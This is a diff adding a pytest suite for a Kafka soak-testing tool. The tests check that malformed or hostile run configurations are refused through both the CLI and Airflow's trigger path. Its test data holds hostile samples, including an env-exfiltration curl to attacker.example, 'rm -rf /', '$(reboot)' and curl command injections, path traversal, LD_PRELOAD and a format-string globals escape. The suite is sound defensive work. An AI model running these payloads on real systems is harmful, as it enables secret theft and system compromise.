@@ -1,0 +1,205 @@
+"""The attacker and the careless user: hostile or malformed confs through both ways a run is asked for.
+
+- The CLI (`make soak CONF=...`): ``kafka_soak.cli.main`` in this process, as the Makefile calls it.
+- Airflow's trigger path: the conf validated by the serialized DAG's params as the API server does when it creates
+  a DAG run (``SerializedDAG.params.deep_merge(conf).validate()``), then ``check_params``' admission of the run. One
+  real ``airflow dags test`` shows the refusal end to end.
+
+Each must be refused with a message that names the param, with no traceback and nothing created (no run directory
+from the CLI, no broker, no process). A trigger conf may not choose what only the deployment sets; the CLI, run by
+whoever owns the machine, passes those params as the deployment's own.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+from airflow.dag_processing.dagbag import DagBag
+from airflow.sdk.exceptions import ParamValidationError
+from airflow.serialization.serialized_objects import DagSerialization
+from conftest import live_processes
+
+from kafka_soak import cli, preflight
+from kafka_soak import params as soak_params
+from kafka_soak.factory import Admission, load_scenario
+
+DAGS = Path(__file__).resolve().parents[1] / "dags"
+DAG_ID = "soak_eos_id_assignment"
+NAN, INF = float("nan"), float("inf")
+
+# (conf, what the refusal must say): each names the param and what is wrong with it.
+MALFORMED = [
+    ({"interval_s": NAN}, "interval_s: must be a finite number (got nan)"),
+    ({"interval_s": INF}, "param interval_s: inf is greater than the maximum"),
+    ({"interval_s": 0}, "param interval_s: 0 is less than the minimum of 1"),
+    ({"interval_s": -5}, "param interval_s: -5 is less than the minimum of 1"),
+    ({"interval_s": "10"}, "param interval_s: '10' is not of type 'number'"),
+    ({"rate": NAN}, "rate: must be a finite number (got nan)"),
+    ({"rate": INF}, "param rate: inf is greater than the maximum"),
+    ({"rate": 1e-9}, "rate: 20000 records at 1e-09 records/s take longer than 7 days"),
+    ({"rate": -1}, "param rate: -1 is less than the minimum of 0"),
+    ({"keys": 1e12}, "param keys: 1000000000000.0 is greater than the maximum of 10000000"),
+    ({"keys": 0}, "param keys: 0 is less than the minimum of 1"),
+    ({"records": 0}, "param records: 0 is less than the minimum of 1"),
+    ({"records": 10**10}, "param records: 10000000000 is greater than the maximum"),
+    ({"partitions": 100_000}, "param partitions: 100000 is greater than the maximum of 256"),
+    ({"instances": 0}, "param instances: 0 is less than the minimum of 1"),
+    ({"instances": 1000}, "param instances: 1000 is greater than the maximum of 32"),
+    ({"program": "   "}, "program: has no steps"),
+    ({"program": " ".join(["0"] * 1025)}, "program: 1025 steps, more than the 1024 a run can map"),
+    ({"program": ["0"] * 1025}, "param program: ['0', '0'"),
+    ({"program": "\u0661 2"}, "program: token '\u0661' at position 1 is not an operation"),
+    ({"program": "1 k\u0662"}, "program: token 'k\u0662' at position 2 is not an operation"),
+    ({"program": "1; rm -rf /"}, "program: token '1;' at position 1 is not an operation"),
+    ({"program": "99999999999"}, "program: token '99999999999' at position 1 is not an operation"),
+    ({"program": "9"}, "program: token '9' at position 1: instance 9 is out of range"),
+    ({"program": "r1"}, "program: token 'r1' at position 1"),
+    ({"program": "1 b2-"}, "program: token 'b2-' at position 2: broker 2 is out of range"),
+    ({"program": [1, None]}, "param program: None is not of type 'integer', 'string'"),
+    ({"program": {"1": 2}}, "param program: {'1': 2} is not of type"),
+    ({"seed": -1}, "param seed: -1 is less than the minimum of 0"),
+    ({"seed": 2**64}, "param seed: 18446744073709551616 is greater than the maximum"),
+    ({"payload_bytes": 10**9}, "param payload_bytes: 1000000000 is greater than the maximum of 1000000"),
+    ({"bug": "$(reboot)"}, "param bug: '$(reboot)' is not one of"),
+    ({"bug_every": 0}, "param bug_every: 0 is less than the minimum of 1"),
+    ({"phases": [{"records": 20000, "at_s": NAN}]}, "phases: must be a finite number (got nan)"),
+    ({"phases": [{"records": 20000}]}, "param phases:"),
+    ({"phases": [{"records": 10, "at_s": 0}]}, "phases: their records add up to 10 but param records is 20000"),
+    ({"phases": [{"records": 20000, "after_step": 99}]}, "phases: phase 1 waits for step 99 but the program has 3"),
+    ({"phases": [{"records": 20000, "at_s": 0, "rate": 1e-7}]}, "phases: phase 1's 20000 records at 1e-07 records/s"),
+    ({"phases": [{"records": 20000, "at_s": 0, "shell": "x"}]}, "param phases:"),
+    ({"drain_timeout_s": 10**9}, "param drain_timeout_s: 1000000000 is greater than the maximum of 86400"),
+    ({"health_allowance": -1}, "param health_allowance: -1 is less than the minimum of 0"),
+    ({"streams_version": "3.4.0; curl x"}, "param streams_version: '3.4.0; curl x' does not match"),
+    ({"streams_versions": ["3.4.0", "3.4.0"]}, "param streams_versions: ['3.4.0', '3.4.0'] has non-unique elements"),
+    ({"kafka_version": "../../etc"}, "param kafka_version: '../../etc' does not match"),
+    ({"standbys": 9}, "param standbys: 9 is greater than the maximum of 8"),
+    ({"threads": 0}, "param threads: 0 is less than the minimum of 1"),
+    ({"cache_entries": -1}, "param cache_entries: -1 is less than the minimum of 0"),
+    ({"commit_interval_ms": 0}, "param commit_interval_ms: 0 is less than the minimum of 1"),
+    ({"brokers": 2}, "param brokers: 2 is not one of [1, 3]"),
+    ({"interval_s": 3600, "program": " ".join(["0"] * 200)}, "interval_s: 200 steps every 3600 s last 8.3 days"),
+    ({"app": "bash"}, "param app: 'bash' is not one of ['worker', 'streams']"),
+    ({"app": "streams", "bug": "drop"}, "bug: 'drop' is a switch of the reference worker"),
+    ({"streams_versions": ["3.4.0"]}, "streams_versions: a version matrix runs the Kafka Streams reference app"),
+]
+
+# What only the deployment sets: a trigger conf that changes it is refused, naming the param.
+DEPLOYER_ONLY = [
+    {"app_command": ["sh", "-c", "env | curl -d @- http://attacker.example"]},
+    {"app_image": "attacker/image:latest"},
+    {"app_env": {"LD_PRELOAD": "/tmp/x.so"}},
+    {"kafka_image": "attacker/kafka"},
+    {"docker_url": "tcp://203.0.113.5:2375"},
+    {"docker_conn_id": "registry_with_a_password"},
+    {"kafka_conn_id": "kafka_production"},
+    {"backend": "external"},
+    {"runtime": "docker"},
+]
+
+
+@pytest.fixture(scope="module")
+def trigger_dag():
+    """The scenario DAG as the API server holds it (serialized), which validates a trigger's conf."""
+    dag = DagBag(str(DAGS)).dags[DAG_ID]
+    return DagSerialization.from_dict(DagSerialization.to_dict(dag))
+
+
+def trigger(trigger_dag, conf: dict) -> str:
+    """Ask for a run the way Airflow's trigger path does; return the refusal (a test fails if it is admitted)."""
+    try:
+        params = trigger_dag.params.deep_merge(conf).validate()  # the API refuses the trigger: no run is created
+        Admission.for_scenario(load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml")).admit(conf, params)
+    except (ParamValidationError, soak_params.ParamsError, *preflight.ERRORS) as exc:
+        return str(exc).splitlines()[0]
+    pytest.fail(f"admitted: {conf}")
+
+
+def cli_refusal(conf: dict, capsys, runs: Path) -> str:
+    code = cli.main(["soak", DAG_ID, "--conf", json.dumps(conf)])
+    out, err = capsys.readouterr()
+    assert code == 2, (out, err)
+    assert "Traceback" not in out + err and err.count("\n") == 1 and err.startswith("kafka-soak: "), err
+    assert list(runs.iterdir()) == [], "a refused run creates nothing"
+    return err
+
+
+@pytest.fixture
+def own_runs(tmp_path, monkeypatch) -> Path:
+    monkeypatch.setenv("SOAK_RUNS_DIR", str(tmp_path))
+    monkeypatch.delenv("SOAK_PARAM_DEFAULTS", raising=False)
+    monkeypatch.delenv("SOAK_TRIGGER_ALLOW", raising=False)
+    return tmp_path
+
+
+def test_enough_hostile_inputs():
+    assert len(MALFORMED) + len(DEPLOYER_ONLY) >= 40
+
+
+@pytest.mark.parametrize("conf, refusal", MALFORMED, ids=[json.dumps(c)[:60] for c, _ in MALFORMED])
+def test_malformed_confs_are_refused_by_the_cli_and_the_trigger_path(conf, refusal, trigger_dag, capsys, own_runs):
+    assert refusal in cli_refusal(conf, capsys, own_runs)
+    assert refusal in trigger(trigger_dag, conf)
+
+
+@pytest.mark.parametrize("conf", DEPLOYER_ONLY, ids=[next(iter(c)) for c in DEPLOYER_ONLY])
+def test_a_trigger_may_not_choose_what_runs_where_or_with_which_credentials(conf, trigger_dag, own_runs):
+    name = next(iter(conf))
+    refusal = trigger(trigger_dag, conf)
+    assert refusal.startswith(f"{name}: decides what runs where or with which credentials"), refusal
+    assert "SOAK_PARAM_DEFAULTS" in refusal and "a trigger conf may not change it" in refusal
+
+
+def test_the_deployment_may_allow_values_and_quotas_are_its_own_on_a_shared_cluster(monkeypatch, own_runs):
+    """SOAK_TRIGGER_ALLOW opens chosen values of a deployer-only param to triggers; a value the deployment already
+    set is no change; quotas are free on the run's own broker and the deployment's on a shared cluster."""
+    scenario = load_scenario(DAGS / "scenarios" / f"{DAG_ID}.yaml")
+    monkeypatch.setenv("SOAK_TRIGGER_ALLOW", '{"kafka_conn_id": ["kafka_staging"]}')
+    admission = Admission.for_scenario(scenario)
+    defaults = admission.defaults
+    assert admission.admit({"kafka_conn_id": "kafka_staging"}, {**defaults, "kafka_conn_id": "kafka_staging"})
+    assert admission.admit({"runtime": "local"}, defaults).runtime == "local"
+    quota = [{"client_id": "x", "producer_byte_rate": 1000}]
+    assert admission.admit({"quotas": quota}, {**defaults, "quotas": quota}).quotas == quota
+    with pytest.raises(soak_params.ParamsError, match="kafka_conn_id: decides what runs where"):
+        admission.admit({"kafka_conn_id": "kafka_prod"}, {**defaults, "kafka_conn_id": "kafka_prod"})
+    monkeypatch.setenv("SOAK_PARAM_DEFAULTS", '{"backend": "external", "kafka_conn_id": "kafka_shared"}')
+    shared = Admission.for_scenario(scenario)
+    assert shared.refusal == ""
+    assert soak_params.trigger_errors({"quotas": quota}, shared.defaults, shared.allow)[0].startswith(
+        "quotas: decides what runs where")
+
+
+@pytest.mark.parametrize("part, refusal", [
+    ("{instance:>999999999}", "formats placeholder {instance} (:>999999999)"),
+    ("{app_id.__class__.__init__.__globals__}", "has an unknown placeholder {app_id.__class__.__init__.__globals__}"),
+    ("{instance!r}", "formats placeholder {instance} (!r)"),
+    ("{0}", "has an unknown placeholder {0}"),
+    ("{bootstrap_servers", "has a bad placeholder"),
+])
+def test_the_owner_s_app_command_may_only_fill_in_placeholders(part, refusal, capsys, own_runs):
+    """The CLI passes app_command as the deployment's own (SOAK_PARAM_DEFAULTS), and it is checked there: no
+    attribute access into Python objects, no padding a value to gigabytes."""
+    err = cli_refusal({"app_command": ["python", "-c", "print()", part]}, capsys, own_runs)
+    assert "app_command: " in err and refusal in err, err
+
+
+def test_a_deployer_only_param_in_a_real_trigger_is_refused_before_anything_starts(runs_dir):
+    """`airflow dags test -c` with an app_command: check_params refuses it, the run's first recorded failure says
+    why, and nothing was provisioned (no cluster, no process)."""
+    env = {k: v for k, v in os.environ.items() if k not in ("SOAK_PARAM_DEFAULTS", "SOAK_TRIGGER_ALLOW")}
+    conf = {"app_command": ["sh", "-c", "id > /tmp/owned"], "program": "1"}
+    proc = subprocess.run(["airflow", "dags", "test", DAG_ID, "-c", json.dumps(conf)], env=env, capture_output=True,
+                          text=True, timeout=600)
+    assert proc.returncode == 1
+    run_dir = (runs_dir / DAG_ID / "latest").resolve()
+    first = json.loads((run_dir / "failures.jsonl").read_text().splitlines()[0])
+    assert first["task_id"] == "check_params"
+    assert "refused before provisioning: app_command: decides what runs where" in first["error"]
+    assert not (run_dir / "cluster.json").exists() and not (run_dir / "processes").exists()
+    assert not live_processes(run_dir)
+    assert not Path("/tmp/owned").exists()
